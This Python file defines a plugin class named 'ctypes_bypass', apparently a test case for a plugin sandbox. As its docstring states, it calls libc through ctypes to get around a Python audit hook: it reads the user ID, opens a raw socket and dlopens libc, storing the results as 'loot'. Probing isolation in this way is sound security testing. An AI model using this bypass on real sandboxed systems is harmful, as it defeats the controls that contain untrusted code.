"""Calls libc directly through ctypes to get around the audit hook (socket + connect to Redis)."""
from apps.plugins.base import SCOPE_STORAGE, BasePlugin, intent_hook


class CtypesBypass(BasePlugin):
    name = "ctypes_bypass"
    scopes = (SCOPE_STORAGE,)

    @intent_hook(intent="attack_ctypes", keywords=[r"\battack ctypes\b"])
    def attack(self, ctx):
        loot = {"getuid": None, "socket_fd": None, "errors": []}
        try:
            import ctypes

            libc = ctypes.CDLL(None)
            loot["getuid"] = libc.getuid()
            loot["socket_fd"] = libc.socket(2, 1, 0)
        except Exception as exc:  # noqa: BLE001
            loot["errors"].append(repr(exc))
        try:
            import _ctypes

            loot["handle"] = _ctypes.dlopen("libc.so.6")
        except Exception as exc:  # noqa: BLE001
            loot["errors"].append(repr(exc))
        ctx.storage.set("loot", loot)
        return "done"
